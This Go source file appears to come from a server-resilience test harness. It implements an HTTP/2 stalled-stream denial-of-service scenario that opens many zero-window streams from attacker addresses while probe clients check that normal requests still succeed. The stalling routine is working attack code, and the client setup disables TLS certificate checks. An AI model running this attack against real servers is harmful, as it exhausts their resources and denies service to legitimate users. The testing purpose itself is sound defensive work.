package attack

import (
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net/http"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
)

// stalledStreams requests pages over HTTP/2 and grants no window for the responses. It keeps
// as many streams as it can get, with five connections of each address, and replaces those that
// the server resets. Two good clients must not notice: one on a connection that was
// open before, and one that connects for each request.
func stalledStreams(addrs int, d time.Duration) func(context.Context, *scenario) {
	return func(ctx context.Context, s *scenario) {
		good := []*http2Probe{
			{client: s.http2Client(ctx, clientAddr)},
			{client: s.http2Client(ctx, callerAddr), reconnect: true},
		}
		for _, p := range good {
			p.get(ctx, s)
		}
		began := s.cpu()
		attacking, stop := context.WithTimeout(ctx, d)
		defer stop()
		for _, p := range good {
			go p.run(attacking, s)
		}
		var opened, refused atomic.Int64
		const connsPerAddr = 5
		parallel(addrs*connsPerAddr, addrs*connsPerAddr, func(i int) {
			s.stallStreams(attacking, attackerAddr(i/connsPerAddr), &opened, &refused)
		})
		for i, p := range good {
			if n, failed := p.asked.Load(), p.failed.Load(); failed > 0 || n < 3 {
				s.fail("good client %d: got %d of %d requests failed, the last with %v; want none of at least 3", i, failed, n, p.lastErr.Load())
			}
		}
		s.addFigure("%d streams opened, %d answered or reset, %d ms of CPU; %d requests of good clients", opened.Load(), refused.Load(),
			(s.cpu() - began).Milliseconds(), good[0].asked.Load()+good[1].asked.Load())
	}
}

// stallStreams keeps as many streams as the server allows on one connection until ctx ends.
func (s *scenario) stallStreams(ctx context.Context, from string, opened, refused *atomic.Int64) {
	const maxStreams = 100 // of a connection
	for ctx.Err() == nil {
		f, err := s.dialHTTP2(ctx, from, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
		if err != nil {
			sleep(ctx, 50*time.Millisecond)
			continue
		}
		go f.readFrames()
		for n := int64(0); err == nil && ctx.Err() == nil; {
			if n-f.resets.Load() >= maxStreams {
				sleep(ctx, 10*time.Millisecond)
				continue
			}
			if _, err = f.openStream("GET", "/", "staller", true); err == nil {
				n++
				opened.Add(1)
			}
			sleep(ctx, 5*time.Millisecond)
		}
		refused.Add(f.resets.Load())
		f.Close()
	}
}

// http2Client returns an HTTP/2 client that connects from a source address.
func (s *scenario) http2Client(ctx context.Context, from string) *http.Client {
	client := s.http(from)
	transport := client.Transport.(*http.Transport)
	transport.ForceAttemptHTTP2 = true
	transport.TLSClientConfig = &tls.Config{InsecureSkipVerify: true}
	context.AfterFunc(ctx, transport.CloseIdleConnections)
	return client
}

// http2Probe is a good client that requests pages over HTTP/2.
type http2Probe struct {
	client    *http.Client
	reconnect bool

	asked, failed atomic.Int64
	lastErr       atomic.Value // string
}

// run requests a page ten times a second until ctx ends.
func (p *http2Probe) run(ctx context.Context, s *scenario) {
	for sleep(ctx, 100*time.Millisecond) {
		p.get(ctx, s)
	}
	p.client.CloseIdleConnections()
}

func (p *http2Probe) get(ctx context.Context, s *scenario) {
	if p.reconnect {
		p.client.CloseIdleConnections()
	}
	err := p.request(ctx, s)
	if ctx.Err() != nil {
		return
	}
	p.asked.Add(1)
	if err != nil {
		p.failed.Add(1)
		p.lastErr.Store(err.Error())
	}
}

func (p *http2Probe) request(ctx context.Context, s *scenario) error {
	r, err := http.NewRequestWithContext(ctx, "GET", s.url()+"/", nil)
	if err != nil {
		return err
	}
	resp, err := p.client.Do(r)
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	if _, err := io.Copy(io.Discard, resp.Body); err != nil {
		return err
	}
	if resp.StatusCode != http.StatusOK || resp.ProtoMajor != 2 {
		return fmt.Errorf("got status %d over %s", resp.StatusCode, resp.Proto)
	}
	return nil
}
